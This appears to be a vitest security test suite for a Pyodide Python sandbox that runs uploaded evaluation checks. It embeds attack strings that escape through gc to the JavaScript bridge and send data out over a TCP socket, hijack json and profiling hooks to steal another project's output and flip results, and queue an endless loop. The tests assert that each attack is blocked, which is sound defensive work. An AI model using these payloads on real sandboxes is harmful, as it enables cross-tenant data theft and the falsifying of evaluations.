import { createServer } from 'node:net';
import type { Server } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createPythonSandbox } from './create-python-sandbox.ts';

// The attacks of issue 23, as a check uploaded with one project's admin key would make them. One
// interpreter (poolSize 1), so that attacker and victim share a process as they did in the probes.
const START_BOUND_MS = 60_000;
const sandbox = createPythonSandbox({ timeoutMs: 2_000, poolSize: 1 });
afterAll(() => sandbox.close());
const run = (source: string, args: Record<string, unknown> = {}, timeoutMs = START_BOUND_MS) => sandbox.evaluate({ language: 'python', source, args, timeoutMs });

describe('a Python check does not reach the network through the JavaScript bridge', () => {
  let server: Server;
  const received: string[] = [];
  let port = 0;
  beforeAll(async () => {
    server = createServer((socket) => {
      received.push('connection');
      socket.on('data', (d: Buffer) => received.push(d.toString()));
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    port = (server.address() as { port: number }).port;
  });
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

  it('the bridge found through gc (_pyodide._importhook → pyodide_js → useNodeSockFS → a TCP socket) sends the unit\'s output nowhere', async () => {
    const attack = `import gc, sys
def evaluate(model_output):
    hooks = [o for o in gc.get_objects() if type(o).__name__ == 'module' and getattr(o, '__name__', '') == '_pyodide._importhook']
    pyodide_js = hooks[0].jsfinder.jsproxies['pyodide_js']
    sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != '_DenyFinder']
    import _socket
    def send(_):
        fd = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM).detach()
        pyodide_js._api._nodeSock.connect(fd, '127.0.0.1', ${port}).then(lambda _: pyodide_js._api._nodeSock.send(fd, model_output.encode()))
    pyodide_js.useNodeSockFS().then(send)
    return True
`;
    expect(await run(attack, { model_output: 'the output of project A' })).toEqual({ ok: false, error: "evaluate threw: KeyError: 'pyodide_js' (line 4)" });
    // Any other JavaScript value a check can still make (pyodide.ffi found through gc) is refused where WebAssembly calls out.
    const anyJsValue = `import gc
def evaluate():
    ffi = [o for o in gc.get_objects() if type(o).__name__ == 'module' and o.__name__ == 'pyodide.ffi'][0]
    return str(ffi.to_js({'a': 1}).constructor)
`;
    expect(await run(anyJsValue)).toEqual({ ok: false, error: 'refused by the sandbox: the host function JsvArray_New is not available to checks' });
    expect(await run('def evaluate():\n    return 1\n')).toEqual({ ok: true, value: 1 });
    // The attack's promises would have run by now.
    await new Promise((resolve) => setTimeout(resolve, 1_000));
    expect(received).toEqual([]);
  }, START_BOUND_MS * 3);
});

describe('interpreter state does not survive between evaluations', () => {
  it('patches of json.decoder.JSONDecoder.decode, sys.setprofile, CodeBasedCheck.__init_subclass__ and json.encoder.JSONEncoder.encode do not reach the next check', async () => {
    const attacker = `import json, json.decoder, json.encoder, sys
from okareo.checks import CodeBasedCheck
stolen = json.decoder.JSONDecoder.__dict__.get('stolen') or []
json.decoder.JSONDecoder.stolen = stolen
decode = json.decoder.JSONDecoder.decode
def spy(self, s, *a, **k):
    stolen.append(s)
    return decode(self, s, *a, **k)
json.decoder.JSONDecoder.decode = spy
sys.setprofile(lambda frame, event, arg: stolen.append(str(frame.f_locals.get('model_output'))) if event == 'call' and 'model_output' in frame.f_locals else None)
CodeBasedCheck.__init_subclass__ = classmethod(lambda cls, **k: stolen.append('subclass ' + cls.__name__))
encode = json.encoder.JSONEncoder.encode
json.encoder.JSONEncoder.encode = lambda self, o: encode(self, o).replace('false', 'true')
def evaluate():
    return len(stolen)
`;
    const victim = `import json, sys
from okareo.checks import CodeBasedCheck
class Check(CodeBasedCheck):
    @staticmethod
    def evaluate(model_output):
        return [json.loads(model_output)['passed'], sys.getprofile() is None, '__init_subclass__' in CodeBasedCheck.__dict__]
`;
    expect(await run(attacker)).toEqual({ ok: true, value: 0 });
    expect(await run(victim, { model_output: '{"passed": false, "secret": "project B"}' })).toEqual({ ok: true, value: [false, true, false] });
    expect(await run(attacker)).toEqual({ ok: true, value: 0 });
  }, START_BOUND_MS);

  it('a check counting its calls in a stdlib class attribute answers 1, 1, 1', async () => {
    const counter = 'import json\ndef evaluate():\n    json.JSONDecoder.calls = getattr(json.JSONDecoder, "calls", 0) + 1\n    return json.JSONDecoder.calls\n';
    const answers = [];
    for (let i = 0; i < 3; i++) answers.push(await run(counter));
    expect(answers).toEqual([1, 1, 1].map((value) => ({ ok: true, value })));
  }, START_BOUND_MS);
});

describe('work a check leaves behind', () => {
  it('asyncio call_later of an endless loop is refused to the check that queued it, and the next checks run on time', async () => {
    const attacker = `import asyncio
def spin():
    while True:
        pass
def evaluate():
    asyncio.get_event_loop().call_later(0, spin)
    return True
`;
    expect(await run(attacker)).toEqual({ ok: false, error: 'refused by the sandbox: the host function create_once_callable is not available to checks' });
    // The first waits for the interpreter that replaces the attacker's; the rest are held to 2 s.
    expect(await run('def evaluate(model_output):\n    return len(model_output)\n', { model_output: 'abc' })).toEqual({ ok: true, value: 3 });
    for (let i = 0; i < 3; i++) expect(await run('def evaluate(model_output):\n    return len(model_output)\n', { model_output: 'abcd' }, 2_000)).toEqual({ ok: true, value: 4 });
  }, START_BOUND_MS * 2);

  it('error text is cut at 2,000 characters, as the JavaScript sandbox cuts it', async () => {
    const res = await run('def evaluate():\n    raise ValueError("x" * 5_000_000)\n');
    expect(res).toEqual({ ok: false, error: `evaluate threw: ValueError: ${'x'.repeat(2_000 - 'evaluate threw: ValueError: '.length)}` });
  }, START_BOUND_MS);
});

describe('files a check leaves behind', () => {
  it('a file written in /tmp or the request folder is not there for the next check, and nothing else is writable (/tmp is a new file system for every call, so the interpreter is kept)', async () => {
    const writer = "def evaluate():\n    done = []\n    for p in ['/tmp/note', '/home/pyodide/note', '/tmp/.tracecheck/note', '/note']:\n        try:\n            open(p, 'w').write('project A')\n            done.append(p)\n        except PermissionError:\n            pass\n    return done\n";
    const reader = "import os\ndef evaluate():\n    return [p for p in ['/tmp/note', '/home/pyodide/note', '/tmp/.tracecheck/note', '/note'] if os.path.exists(p)]\n";
    expect(await run(writer)).toEqual({ ok: true, value: ['/tmp/note', '/tmp/.tracecheck/note'] });
    const starts = sandbox.stats().starts;
    expect(await run(reader)).toEqual({ ok: true, value: [] });
    expect(sandbox.stats().starts).toBe(starts);
  }, START_BOUND_MS * 2);
});

describe('what ordinary checks use still works in the restored interpreter, without replacing it', () => {
  it('time.sleep, sqlite3, uuid, zoneinfo, csv; random draws differ between calls', async () => {
    await run('def evaluate():\n    return 0\n');
    const starts = sandbox.stats().starts;
    const src = 'import time, sqlite3, uuid, csv, io, datetime\ndef evaluate():\n    time.sleep(0.01)\n    return [sqlite3.connect(":memory:").execute("select 1 + 1").fetchone()[0], len(str(uuid.uuid4())), list(csv.reader(io.StringIO("a,b"))), datetime.datetime(2020, 1, 1, tzinfo=datetime.timezone.utc).isoformat()]\n';
    expect(await run(src)).toEqual({ ok: true, value: [2, 36, [['a', 'b']], '2020-01-01T00:00:00+00:00'] });
    const draw = 'import random\ndef evaluate():\n    return random.random()\n';
    const [a, b] = [await run(draw), await run(draw)];
    expect(a.ok && b.ok && a.value !== b.value).toBe(true);
    expect(sandbox.stats().starts).toBe(starts);
  }, START_BOUND_MS);
});
